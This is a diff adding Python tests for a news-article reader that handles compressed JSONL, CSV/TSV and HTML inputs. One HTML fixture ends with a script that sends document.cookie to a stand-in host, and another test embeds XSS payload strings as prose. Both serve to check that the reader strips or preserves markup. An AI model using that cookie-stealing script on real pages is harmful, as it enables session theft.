@@ -168,3 +168,95 @@ def test_bad_jsonl_lines_do_not_stop_the_file(tmp_path: Path, line: bytes, kind:
     assert isinstance(bad, InputFailure)
     assert bad.error.kind == kind
     assert bad.article["source"] == f"{path}:2"
+
+
+def _jsonl(rows: list[dict[str, str]]) -> bytes:
+    return "".join(json.dumps(r) + "\n" for r in rows).encode()
+
+
+def test_gzip_and_zstd(tmp_path: Path) -> None:
+    import gzip
+
+    import zstandard
+
+    rows = [{"id": "z1", "text": BODY}, {"id": "z2", "text": BODY + " Again."}]
+    (tmp_path / "a.jsonl.gz").write_bytes(gzip.compress(_jsonl(rows)))
+    (tmp_path / "b.jsonl.zst").write_bytes(zstandard.ZstdCompressor().compress(_jsonl(rows)))
+    (tmp_path / "c.txt.gz").write_bytes(gzip.compress(f"date 2024-11-02\n{BODY}".encode()))
+    docs = read([str(tmp_path)])
+    assert [d.article.id for d in docs][:4] == ["z1", "z2", "z1", "z2"]  # type: ignore[union-attr]
+    last = docs[4]
+    assert isinstance(last, Document) and last.article.published == "2024-11-02"
+
+
+def test_truncated_gzip_keeps_what_was_read(tmp_path: Path) -> None:
+    import gzip
+
+    rows = [{"id": f"t{i}", "text": BODY} for i in range(200)]
+    data = gzip.compress(_jsonl(rows))
+    path = tmp_path / "cut.jsonl.gz"
+    path.write_bytes(data[: len(data) // 2])
+    items = read([str(path)])
+    assert isinstance(items[-1], InputFailure) and items[-1].error.kind == "binary"
+    assert all(isinstance(i, Document) for i in items[:-1])
+
+
+def test_csv_with_a_text_column(tmp_path: Path) -> None:
+    path = tmp_path / "a.csv"
+    path.write_text(
+        'id,date,source,Body\n1,2019-04-10,Guardian,"Iraq and the US held talks, officials said."\n'
+        '2,,Reuters,""\n3,2019-04-11,,"Protesters marched in Baghdad."\n',
+        encoding="utf-8",
+    )
+    items = read([str(path)], date="2000-01-01")
+    assert isinstance(items[0], Document)
+    assert (items[0].article.id, items[0].article.published) == ("1", "2019-04-10")
+    assert items[0].article.outlet == "Guardian"
+    assert isinstance(items[1], InputFailure) and items[1].error.kind == "empty"
+    assert items[1].article == {"source": f"{path}:3", "id": "2"}
+    assert isinstance(items[2], Document) and items[2].text == "Protesters marched in Baghdad."
+
+
+def test_csv_without_text_column(tmp_path: Path) -> None:
+    path = tmp_path / "a.tsv"
+    path.write_text("id\theadline\n1\tNothing here\n", encoding="utf-8")
+    [item] = read([str(path)])
+    assert isinstance(item, InputFailure) and item.error.kind == "malformed"
+    assert "no text column" in str(item.error)
+
+
+PAGE = """<!DOCTYPE html><html><head><title>Israel strikes Iran</title>
+<meta name="date" content="2024-10-26"></head><body>
+<nav>Home | World | Sport | Subscribe</nav>
+<article><h1>Israel strikes Iran</h1>
+<p>Israel struck military sites in Iran on Saturday, the army said in a statement.</p>
+<p>Iran's foreign ministry condemned the strikes and said it reserved the right to respond.</p>
+</article><footer>Copyright 2024 Example News. All rights reserved.</footer>
+<script>document.location='http://example.invalid/'+document.cookie</script></body></html>"""
+
+
+def test_html_page_is_reduced_to_main_text(tmp_path: Path) -> None:
+    path = tmp_path / "page.html"
+    path.write_text(PAGE, encoding="utf-8")
+    [doc] = read([str(path)])
+    assert isinstance(doc, Document)
+    assert "Israel struck military sites" in doc.text
+    assert "Subscribe" not in doc.text and "cookie" not in doc.text
+    assert "Copyright" not in doc.text
+    assert doc.article.title == "Israel strikes Iran"
+    assert doc.article.published == "2024-10-26"
+
+
+def test_html_with_only_boilerplate_is_empty(tmp_path: Path) -> None:
+    path = tmp_path / "page.html"
+    path.write_text("<html><body><nav>Home</nav><script>x()</script></body></html>", "utf-8")
+    [item] = read([str(path)])
+    assert isinstance(item, InputFailure) and item.error.kind == "empty"
+
+
+def test_tags_in_prose_stay_as_text(tmp_path: Path) -> None:
+    text = 'The hacker posted <script>alert("x")</script> and <img src=x onerror=alert(1)> online.'
+    path = tmp_path / "a.txt"
+    path.write_text(text, encoding="utf-8")
+    [doc] = read([str(path)])
+    assert isinstance(doc, Document) and doc.text == text
